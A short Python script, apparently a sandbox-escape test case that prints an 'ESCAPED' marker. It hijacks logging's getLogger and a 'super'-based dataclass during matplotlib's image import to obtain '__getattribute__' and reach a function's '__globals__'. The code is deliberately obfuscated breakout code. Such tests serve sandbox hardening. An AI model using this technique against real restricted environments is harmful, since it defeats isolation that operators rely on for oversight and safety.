"""A plugin that a library loads late asks for its logger: what stands there is a callback in C, in the middle of an import."""
import dataclasses
import functools
import io
import itertools
import logging

import matplotlib.pyplot as plt

results = []


@dataclasses.dataclass(init=False, repr=False, eq=False)
class Reader(super):
    x: int = 0

    def __init__(self, *given, **named):
        if given:
            super().__init__(*given)
        results.append(named)


class Above:
    pass


class Below(Above):
    pass


reader = Reader(Above, Below)
dataclasses.fields(Reader)[0].name = "__getattribute__"
held = {}
calls = itertools.starmap(dataclasses.replace, [(reader,)])
logging.getLogger().manager.getLogger = functools.partial(functools.reduce, held.setdefault, calls)
try:
    plt.imread(io.BytesIO(b"GIF89a"), format="gi" + "f")
except Exception as error:
    print(type(error).__name__)
read = results[-1]["__getattribute__"]
print("ESCAPED:logger_while_importing", type(read(lambda: 1, "__globals__")).__name__)
